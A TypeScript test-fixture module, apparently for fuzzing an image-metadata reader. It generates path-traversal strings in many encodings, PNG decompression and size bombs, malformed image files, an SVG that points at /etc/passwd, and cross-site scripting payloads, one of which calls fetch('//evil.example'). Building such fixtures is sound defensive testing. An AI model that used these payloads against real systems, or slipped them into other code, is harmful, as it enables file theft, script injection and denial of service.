// Payloads: what attackers send. Paths that climb, and pictures that explode.
import { deflateSync } from "node:zlib";

/** Ways to write a path that leads to a file outside, each encoded in every way that some server has fallen for. */
export function attacks(files: readonly string[]): string[] {
  const ups = [
    "../",
    "..\\",
    "....//",
    "..;/",
    "./../",
    "%2e%2e/",
    "%2e%2e%2f",
    "..%2f",
    "%252e%252e%252f",
    "..%252f",
    "..%5c",
  ];
  const odd = [
    "..%c0%af",
    "..%c1%9c",
    "%uff0e%uff0e/",
    "．．/",
    "..\u2215",
    "..%00/",
    "..%0d/",
    "..%09/",
    ".%2e/",
    "%2e./",
  ];
  const climbing = files.flatMap((file) =>
    [...ups, ...odd].flatMap((up) => [1, 2, 4, 8].map((depth) => `${up.repeat(depth)}${file}`)),
  );
  const direct = files.flatMap((file) => [
    `/${file}`,
    `//${file}`,
    `file:///${file}`,
    `\\\\localhost\\${file}`,
    `C:\\${file}`,
    `${file}%00.png`,
    `.%00/${file}`,
    `~/${file}`,
    `${"a/".repeat(500)}${"../".repeat(501)}${file}`,
    `x/../../${file}`,
    `CON`,
    `${file}::$DATA`,
  ]);
  return [...new Set([...climbing, ...direct])];
}

/** CRC-32, which Node has in later versions than the oldest that this runs on. */
function crc32(bytes: Uint8Array): number {
  let c = ~0;
  for (const byte of bytes) {
    c ^= byte;
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
  }
  return ~c >>> 0;
}

function chunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const out = Buffer.alloc(body.length + 8);
  out.writeUInt32BE(data.length);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body), body.length + 4);
  return out;
}

const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const end = chunk("IEND", new Uint8Array(0));

function header(width: number, height: number, depth: number, color: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([depth, color], 8);
  return chunk("IHDR", data);
}

/** A PNG of noise that is fine. */
export function plainPng(side = 16): Buffer {
  const rows = Buffer.alloc(side * (1 + 3 * side));
  for (let i = 0; i < rows.length; i++) rows[i] = i % (1 + 3 * side) === 0 ? 0 : (i * 7919) & 255;
  return Buffer.concat([signature, header(side, side, 8, 2), chunk("IDAT", deflateSync(rows)), end]);
}

interface Bomb {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** Whether it may be taken as the picture that it is. */
  readonly harmless?: boolean;
}

/** Pictures made to do harm. @param size bytes that compressed texts unpack to */
export function bombs(size: number): Bomb[] {
  const fine = plainPng();
  const zeros = deflateSync(Buffer.alloc(size), { level: 9 });
  const wide = (side: number): Buffer => {
    const rows = Buffer.alloc(Math.min(side, 2000) * (1 + Math.ceil(side / 8)));
    return Buffer.concat([signature, header(side, side, 1, 0), chunk("IDAT", deflateSync(rows)), end]);
  };
  const withChunks = (...chunks: Buffer[]): Buffer =>
    Buffer.concat([fine.subarray(0, 33), ...chunks, fine.subarray(33)]);
  const compressed = Buffer.concat([Buffer.from("parameters\0\x01\0\0\0"), zeros]);
  const control = Buffer.alloc(26);
  control.writeUInt32BE(16, 4);
  control.writeUInt32BE(16, 8);
  const frames = Array.from({ length: 10_000 }, () => chunk("fcTL", control));
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>`;
  return [
    { name: "fine", bytes: fine, harmless: true },
    { name: "17000² of one bit", bytes: wide(17_000) },
    { name: "60000² of one bit", bytes: wide(60_000) },
    {
      name: "pixels that unpack to more than they are",
      bytes: Buffer.concat([signature, header(16, 16, 8, 2), chunk("IDAT", zeros), end]),
    },
    { name: "a compressed text", bytes: withChunks(chunk("iTXt", compressed)), harmless: true },
    {
      name: "a thousand texts",
      bytes: withChunks(...Array.from({ length: 1000 }, (_, i) => chunk("tEXt", Buffer.from(`k${i}\0v`)))),
      harmless: true,
    },
    {
      name: "a text of megabytes",
      bytes: withChunks(chunk("tEXt", Buffer.from(`parameters\0${"a, ".repeat(2 ** 21)}`))),
      harmless: true,
    },
    {
      name: "an animation of ten thousand frames",
      bytes: withChunks(chunk("acTL", Buffer.from([0, 0, 39, 16, 0, 0, 0, 0])), ...frames),
      harmless: true,
    },
    { name: "SVG", bytes: Buffer.from(svg) },
    { name: "SVG in a picture's name", bytes: Buffer.from(`\ufeff<?xml version="1.0"?>${svg}`) },
    {
      name: "HTML behind a PNG",
      bytes: Buffer.concat([fine, Buffer.from("<script>alert(1)</script>")]),
      harmless: true,
    },
    { name: "HTML", bytes: Buffer.from("<!doctype html><script>alert(1)</script>") },
    { name: "GIF", bytes: Buffer.from("GIF89a\x01\0\x01\0\0\0\0;") },
    { name: "PDF", bytes: Buffer.from("%PDF-1.7\n") },
    {
      name: "a JPEG that is none",
      bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(5000, 0x41)]),
    },
    {
      name: "a WebP that is none",
      bytes: Buffer.concat([Buffer.from("RIFF\xff\xff\xff\x7fWEBPVP8 ", "latin1"), Buffer.alloc(5000)]),
    },
    { name: "nothing", bytes: Buffer.alloc(0) },
    {
      name: "a comment that never ends in a workflow",
      bytes: withChunks(chunk("tEXt", Buffer.from(`prompt\0${'\\"'.repeat(100_000)}`))),
      harmless: true,
    },
    {
      name: "a deep workflow",
      bytes: withChunks(chunk("tEXt", Buffer.from(`prompt\0${'{"a":'.repeat(30_000)}`))),
      harmless: true,
    },
    ...Array.from({ length: 64 }, (_, i) => {
      return { name: `cut off at ${i}/64`, bytes: fine.subarray(0, Math.max(1, Math.floor((fine.length * i) / 64))) };
    }),
  ];
}

/** What would run if a page took it for markup: in text, in attributes, in scripts, in addresses. */
export const markup: readonly string[] = [
  ...["alert(1)", "fetch('//evil.example')", "document.body.dataset.x=1"].flatMap((code) => [
    `<script>${code}</script>`,
    `<ScRiPt>${code}</sCrIpT>`,
    `<img src=x onerror="${code}">`,
    `<svg onload="${code}">`,
    `<svg><script>${code}</script></svg>`,
    `<body onload="${code}">`,
    `<iframe srcdoc="<script>${code}</script>"></iframe>`,
    `<iframe src="javascript:${code}"></iframe>`,
    `<a href="javascript:${code}">x</a>`,
    `<details open ontoggle="${code}">`,
    `<input autofocus onfocus="${code}">`,
    `<video><source onerror="${code}"></video>`,
    `<math><mi xlink:href="javascript:${code}">x</mi></math>`,
    `<style>@import 'javascript:${code}'</style>`,
    `"><script>${code}</script>`,
    `'-${code}-'`,
    `\`\${${code}}\``,
    `{{${code}}}`,
    `</textarea><script>${code}</script>`,
    `</script><script>${code}</script>`,
    `<!--><script>${code}</script>-->`,
    `&lt;script&gt;${code}&lt;/script&gt;`,
    `\u003cscript\u003e${code}\u003c/script\u003e`,
  ]),
];

/** A PNG that says this of itself, as A1111 would. */
export function pngSaying(text: string): Buffer {
  const fine = plainPng();
  const latin1 = Buffer.from(
    `parameters\0${text}\nSteps: 5, Sampler: ${text.replace(/[,\n]/g, "")}, Seed: 1, Size: 64x64`,
    "latin1",
  );
  return Buffer.concat([fine.subarray(0, 33), chunk("tEXt", latin1), fine.subarray(33)]);
}
